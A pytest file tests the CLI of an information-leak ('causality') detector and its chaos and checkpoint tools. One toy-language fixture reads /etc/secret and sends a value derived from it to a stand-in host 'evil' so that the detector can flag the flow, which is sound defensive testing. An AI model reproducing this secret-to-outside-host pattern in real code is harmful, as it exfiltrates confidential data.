"""Unit tests for the command-line interface."""

import pytest

from repro.cli import main

LEAKY = """
fn main() {
  var fd = open("/etc/secret", "r");
  var x = parse_int(read(fd, 8));
  close(fd);
  var y = 0;
  if (x == 7) { y = 1; } else { y = 2; }
  var s = socket();
  connect(s, "evil", 80);
  send(s, y);
}
"""

CLEAN = """
fn main() {
  print("hello cli");
}
"""


@pytest.fixture
def leaky_program(tmp_path):
    path = tmp_path / "leaky.mc"
    path.write_text(LEAKY)
    return str(path)


@pytest.fixture
def clean_program(tmp_path):
    path = tmp_path / "clean.mc"
    path.write_text(CLEAN)
    return str(path)


def test_run_command(clean_program, capsys):
    code = main(["run", clean_program])
    assert code == 0
    assert "hello cli" in capsys.readouterr().out


def test_leak_command_detects(leaky_program, capsys):
    code = main(
        [
            "leak",
            leaky_program,
            "--secret-file",
            "/etc/secret",
            "--file",
            "/etc/secret=7",
            "--endpoint",
            "evil:80=",
        ]
    )
    assert code == 1  # causality detected
    assert "CAUSALITY" in capsys.readouterr().out


def test_leak_command_clean_exit(clean_program, capsys):
    code = main(
        ["leak", clean_program, "--secret-stdin", "--stdin", "ignored", "--sinks", "file"]
    )
    assert code == 0
    assert "no causality" in capsys.readouterr().out


def test_leak_requires_sources(clean_program):
    with pytest.raises(SystemExit):
        main(["leak", clean_program])


def test_bad_file_spec_rejected(clean_program):
    with pytest.raises(SystemExit):
        main(["run", clean_program, "--file", "no-equals-sign"])


def test_endpoint_without_colon_is_diagnosed(clean_program):
    """A raw ValueError traceback is a bug; bad specs exit cleanly."""
    with pytest.raises(SystemExit) as excinfo:
        main(["run", clean_program, "--endpoint", "hostonly=reply"])
    assert "HOST:PORT" in str(excinfo.value)


def test_endpoint_with_nonnumeric_port_is_diagnosed(clean_program):
    with pytest.raises(SystemExit) as excinfo:
        main(["run", clean_program, "--endpoint", "host:notaport=reply"])
    assert "notaport" in str(excinfo.value)


def test_endpoint_missing_equals_is_diagnosed(clean_program):
    with pytest.raises(SystemExit):
        main(["run", clean_program, "--endpoint", "host:80"])


FILE_READER = """
fn main() {
  var fd = open("/in", "r");
  print(read(fd, 100));
  close(fd);
}
"""


@pytest.fixture
def reader_program(tmp_path):
    path = tmp_path / "reader.mc"
    path.write_text(FILE_READER)
    return str(path)


def test_file_content_newline_escape(reader_program, capsys):
    code = main(["run", reader_program, "--file", r"/in=a\nb"])
    assert code == 0
    assert "a\nb" in capsys.readouterr().out


def test_file_content_escaped_backslash_n_stays_literal(reader_program, capsys):
    # \\n is an escaped backslash followed by 'n', NOT a newline.
    code = main(["run", reader_program, "--file", "/in=a\\\\nb"])
    assert code == 0
    out = capsys.readouterr().out
    assert "a\\nb" in out
    assert "a\nb" not in out


def test_file_content_tab_and_trailing_backslash(reader_program, capsys):
    code = main(["run", reader_program, "--file", "/in=a\\tb\\"])
    assert code == 0
    assert "a\tb\\" in capsys.readouterr().out


def test_eval_rejects_bad_job_counts():
    # Invalid job counts are rejected by the parser (SystemExit 2)
    # before any evaluation work starts.
    with pytest.raises(SystemExit):
        main(["eval", "--jobs", "0", "--table4-runs", "1"])
    with pytest.raises(SystemExit):
        main(["eval", "--jobs", "zero"])


@pytest.mark.parametrize("value", ["0", "-1"])
@pytest.mark.parametrize(
    "argv",
    [["chaos", "--workload", "gzip", "--no-store", "--seeds"],
     ["eval", "--no-store", "--table4-runs"]],
    ids=["chaos-seeds", "eval-table4-runs"],
)
def test_counts_below_one_are_rejected(argv, value, capsys):
    # An empty sweep must not reach the runners.
    with pytest.raises(SystemExit) as excinfo:
        main(argv + [value])
    assert excinfo.value.code == 2
    err = capsys.readouterr().err
    assert "Traceback" not in err
    errors = [line for line in err.splitlines() if "error:" in line]
    assert len(errors) == 1
    assert f"must be >= 1, got {value}" in errors[0]


# -- maintenance and service verbs ---------------------------------------------


def test_checkpoints_prune_reports_summary(tmp_path, capsys):
    from repro.checkpoint import CheckpointStore

    store = CheckpointStore(str(tmp_path))
    for index in range(5):
        store.save(f"entry{index:03d}", {"i": index})
    code = main(
        [
            "checkpoints",
            "prune",
            "--checkpoint-dir",
            str(tmp_path),
            "--max-entries",
            "2",
        ]
    )
    assert code == 0
    out = capsys.readouterr().out
    assert "removed 3" in out
    assert "kept 2" in out


@pytest.mark.parametrize(
    "option, value",
    [("--max-entries", "-1"), ("--max-age-hours", "-5"),
     ("--max-age-hours", "nan")],
)
def test_checkpoints_prune_rejects_negative_limits(tmp_path, capsys, option, value):
    # A negative cap or TTL used to delete every checkpoint and exit 0.
    from repro.checkpoint import CheckpointStore

    store = CheckpointStore(str(tmp_path))
    for index in range(3):
        store.save(f"entry{index:03d}", {"i": index})
    with pytest.raises(SystemExit) as excinfo:
        main(["checkpoints", "prune", "--checkpoint-dir", str(tmp_path),
              option, value])
    assert excinfo.value.code == 2
    err = capsys.readouterr().err
    assert "Traceback" not in err
    assert len([line for line in err.splitlines() if "error:" in line]) == 1
    assert all(store.load(f"entry{index:03d}") == {"i": index} for index in range(3))


@pytest.mark.parametrize(
    "argv",
    [["serve", "--queue-capacity", "0"],
     ["serve", "--high-watermark", "-1"],
     ["serve", "--max-factories", "-3"],
     ["serve", "--breaker-threshold", "0"],
     ["serve-chaos", "--queue-capacity", "0"],
     ["serve-chaos", "--requests", "-1"]],
    ids=lambda argv: f"{argv[0]}{argv[1]}",
)
def test_serve_knobs_below_one_are_rejected(argv, capsys):
    # These used to die with a traceback, start a daemon that sheds
    # every cold request, storm nothing and report success, or clamp the
    # value to 1 without a word.
    with pytest.raises(SystemExit) as excinfo:
        main(argv)
    assert excinfo.value.code == 2
    err = capsys.readouterr().err
    assert "Traceback" not in err
    errors = [line for line in err.splitlines() if "error:" in line]
    assert len(errors) == 1
    assert f"must be >= 1, got {argv[2]}" in errors[0]


def test_chaos_rejects_a_single_fault_seed(capsys):
    # A sweep always runs fault seeds 0..N-1; --fault-seed used to be
    # accepted there and silently ignored.
    with pytest.raises(SystemExit) as excinfo:
        main(["chaos", "--fault-seed", "3", "--workload", "gzip", "--no-store"])
    assert excinfo.value.code == 2
    err = capsys.readouterr().err
    errors = [line for line in err.splitlines() if "error:" in line]
    assert len(errors) == 1
    assert "--fault-seed" in errors[0]


def test_checkpoints_prune_missing_dir_is_ok(tmp_path, capsys):
    code = main(
        ["checkpoints", "prune", "--checkpoint-dir", str(tmp_path / "absent")]
    )
    assert code == 0
    assert "removed 0" in capsys.readouterr().out


def test_chaos_interrupt_prints_resume_hint(tmp_path, monkeypatch, capsys):
    import repro.eval.robustness as robustness

    def interrupted(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(robustness, "run_chaos", interrupted)
    store_path = str(tmp_path / "results.sqlite")
    code = main(["chaos", "--store-path", store_path, "--workload", "gzip"])
    assert code == 130
    err = capsys.readouterr().err
    assert "interrupted" in err
    assert "rerun the same command to reuse finished cells" in err

    code = main(["chaos", "--no-store", "--workload", "gzip"])
    assert code == 130
    assert "nothing was persisted" in capsys.readouterr().err


def test_serve_chaos_smoke(capsys):
    code = main(
        [
            "serve-chaos",
            "--requests",
            "6",
            "--workers",
            "2",
            "--poison-every",
            "3",
            "--fault-rate",
            "0.0",
        ]
    )
    out = capsys.readouterr().out
    assert code == 0
    assert "all service invariants hold" in out
